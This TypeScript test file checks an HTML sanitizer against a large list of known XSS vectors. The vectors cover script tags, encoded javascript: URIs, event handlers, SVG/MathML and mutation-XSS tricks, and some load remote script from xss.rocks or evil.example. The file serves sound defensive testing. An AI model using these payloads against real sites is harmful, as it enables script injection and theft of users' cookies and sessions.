import { load } from 'cheerio';
import { isSafeUrl, sanitizeHtml } from './sanitize-html';

/**
 * Known XSS vectors (in the style of the OWASP XSS filter evasion cheat sheet and the mutation-XSS write-ups) through
 * the sanitizer. Each output is checked for what could execute, not for an exact string: every element and attribute
 * on the allow-list, no event handler, no style, no dangerous scheme in href/src once entities are decoded and
 * ignored characters removed, nothing that a second pass would change (mutation XSS).
 */
const VECTORS: string[] = [
  // Script elements in many spellings
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/xss src="http://xss.rocks/xss.js"></script>',
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '<script\ttype="text/javascript">alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<script >alert(1)</script >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT "a=\'>\'" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  '"><script>alert(1)</script>',
  '</p></div></body></html><script>alert(1)</script>',
  '<script>alert(1)',
  // Images and their sources
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(\'XSS\')>',
  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<IMG SRC="java\u0000script:alert(1)">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<IMG SRC=\'vbscript:msgbox("XSS")\'>',
  '<IMG SRC="livescript:[code]">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="x" srcset="javascript:alert(1) 1x, /a.png 2x">',
  '<img srcset="x, javascript:alert(1) 2x">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img src="/a.png" width="100 onerror=alert(1)" height="1e9">',
  '<img src=x onerror=alert(1)//',
  '<<img src=x onerror=alert(1)//>>',
  '\'><img src=x onerror=alert(1)>',
  // Event handlers on allowed and unknown elements
  '<BODY ONLOAD=alert(\'XSS\')>',
  '<p/onmouseover=alert(1)>x</p>',
  '<a href="/x"/onclick=alert(1)>x</a>',
  '<a href="/x"onclick=alert(1)>x</a>',
  '<p ONCLICK="alert(1)" OnMouseOver=alert(2) onfocus\t=alert(3)>x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div onpointerover="alert(1)">x</div>',
  '<body onpageshow=alert(1)>',
  // Links with dangerous schemes: entities, tabs, newlines, control characters
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="javas&#99;ript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="&#X6a;avascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&Tab;ascript:alert(1)">x</a>',
  '<a href="jav&NewLine;ascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\rscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="javascript&#58alert(1)">x</a>',
  '<a href="javascript&#x3A;alert(1)">x</a>',
  '<a href="jAvAsCrIpT&colon;alert&lpar;1&rpar;">x</a>',
  '<a href="java&#0script:alert(1)">x</a>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href=`javascript:alert(1)`>x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="DaTa:text/html,x">x</a>',
  '<a href="\\\\evil.example/x">x</a>',
  '<a href="/x" target="_top">x</a>',
  '<a href="/x" target="_blank" rel="opener">x</a>',
  '<a href="/x">a<a href="javascript:alert(1)">b</a></a>',
  // Attribute values that try to break out of their quotes
  '<a title=\'"><script>alert(1)</script>\'>x</a>',
  '<a href="/x" title=" onmouseover=alert(1) ">x</a>',
  '<a href=\'/x" onclick="alert(1)\'>x</a>',
  '<abbr title="&quot; onmouseover=&quot;alert(1)">x</abbr>',
  '<p title=`x`onclick=alert(1)>x</p>',
  '<td colspan="2 onclick=alert(1)">x</td>',
  '<th scope="col\' onclick=\'alert(1)">x</th>',
  '<p dir="ltr onclick=alert(1)">x</p>',
  // SVG and MathML
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">CLICK</math>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  // Styles and expressions
  '<div style="background-image: url(javascript:alert(\'XSS\'))">x</div>',
  '<div style="width: expression(alert(\'XSS\'));">x</div>',
  '<p style="xss:expr/*XSS*/ession(alert(\'XSS\'))">x</p>',
  '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  '<STYLE>@import\'http://xss.rocks/xss.css\';</STYLE>',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>',
  '<XSS STYLE="behavior: url(xss.htc);">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TD BACKGROUND="javascript:alert(\'XSS\')">x</TD></TABLE>',
  '<BR SIZE="&{alert(\'XSS\')}">',
  // Embedding, forms, navigation
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<object data="javascript:alert(1)"></object>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<embed src="javascript:alert(1)">',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv">',
  '<form><button formaction="javascript:alert(1)">X</button></form>',
  '<input type="image" formaction=javascript:alert(1) src=x>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<isindex action=javascript:alert(1) type=image>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<base href="https://evil.example/">',
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  // Comments, CDATA, processing instructions, raw-text elements (mutation XSS)
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<? echo(\'<SCR)\'; echo(\'IPT>alert("XSS")</SCRIPT>\'); ?>',
  '<!DOCTYPE html><html><head><script>alert(1)</script></head><body>x</body></html>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><script>alert(1)</script></template>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<style><style/><img src=x onerror=alert(1)>',
  '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  // Malformed and nested tags
  '<p>x</p></div></body></html><img src=x onerror=alert(1)>',
  '<div><p>unclosed <b>deep <a href="/x">',
  '<a href="/x"',
  '<img src="x',
  '<a<img src=x onerror=alert(1)>>',
  '<p><<p onclick=alert(1)>>x</p>',
  '<<a href="javascript:alert(1)">x</a>',
  '<a href="javascript:alert(1)" <b>x</b>',
  '<div <script>alert(1)</script>>',
  '<p>a</p>'.repeat(3) + '<div>'.repeat(200) + '<script>alert(1)</script>',
];

const ALLOWED_TAGS = new Set([
  'p', 'br', 'hr', 'strong', 'b', 'em', 'i', 'u', 's', 'small', 'sub', 'sup', 'mark', 'abbr', 'span', 'div',
  'h2', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li', 'dl', 'dt', 'dd', 'blockquote', 'pre', 'code', 'address',
  'a', 'img', 'figure', 'figcaption', 'table', 'caption', 'thead', 'tbody', 'tfoot', 'tr', 'th', 'td',
]);
const ALLOWED_ATTRIBUTES = new Set(['title', 'lang', 'dir', 'href', 'target', 'rel', 'src', 'alt', 'width', 'height', 'scope', 'colspan', 'rowspan', 'start', 'reversed']);
const DANGEROUS_SCHEME = /^(javascript|vbscript|livescript|data|file|mocha):/i;

/** A URL as a browser reads its scheme: entities decoded (by the parser), control characters and whitespace ignored. */
function schemeView(url: string): string {
  return url.replace(/[\u0000-\u0020\u007f-\u009f]/g, '');
}

function problems(output: string): string[] {
  const found: string[] = [];
  // The raw string: every tag the browser would see is on the allow-list, no handler attribute inside a tag.
  for (const match of output.matchAll(/<\/?([a-zA-Z][^\s/>]*)([^>]*)>?/g)) {
    const name = (match[1] ?? '').toLowerCase();
    if (!ALLOWED_TAGS.has(name)) found.push(`tag <${name}>`);
    const outsideQuotes = (match[2] ?? '').replace(/"[^"]*"/g, '""');
    if (/(^|[\s/"'])on[a-z]*\s*=/i.test(outsideQuotes)) found.push(`handler in ${match[0]}`);
    if (/[`']/.test(outsideQuotes)) found.push(`unquoted attribute in ${match[0]}`);
  }
  if (/<!--|<!\[CDATA\[|<\?|<!/i.test(output)) found.push('comment, CDATA or declaration');
  if (/<script|<style|<svg|<math|<iframe|<object|<embed|<meta|<base|<link|<form|<input|<button/i.test(output)) found.push('dangerous element');
  // The parsed fragment, as a browser builds it.
  const $ = load(output, null, false);
  $('*').each((_, element) => {
    if (!('attribs' in element)) return;
    const name = element.tagName.toLowerCase();
    if (!ALLOWED_TAGS.has(name)) found.push(`element ${name}`);
    for (const [attribute, value] of Object.entries(element.attribs)) {
      if (!ALLOWED_ATTRIBUTES.has(attribute)) found.push(`attribute ${attribute} on ${name}`);
      if (attribute === 'href' || attribute === 'src') {
        if (DANGEROUS_SCHEME.test(schemeView(value))) found.push(`${attribute}=${value}`);
        if (!isSafeUrl(value, attribute === 'href' ? 'link' : 'image')) found.push(`unsafe ${attribute}=${value}`);
      }
      if (attribute === 'target' && $(element).attr('rel') !== 'noopener noreferrer') found.push('target without noopener');
    }
  });
  return found;
}

describe('sanitizeHtml against known XSS vectors', () => {
  test.each(VECTORS.map((vector) => [vector]))('%s', (vector) => {
    const output = sanitizeHtml(vector);
    expect(problems(output)).toEqual([]);
    // Stable: a second pass changes nothing, so no markup appears only after the browser re-parses the output.
    expect(sanitizeHtml(output)).toBe(output);
  });

  test('the corpus is large enough to mean something', () => {
    expect(VECTORS.length).toBeGreaterThan(150);
  });

  test('the check itself finds what it looks for', () => {
    expect(problems('<img src="x" onerror="alert(1)">')).toContain('attribute onerror on img');
    expect(problems('<a href="java&#x09;script:alert(1)">x</a>')).toEqual(expect.arrayContaining(['href=java\tscript:alert(1)']));
    expect(problems('<svg></svg>')).toContain('element svg');
    expect(problems('<!-- x -->')).toContain('comment, CDATA or declaration');
  });
});
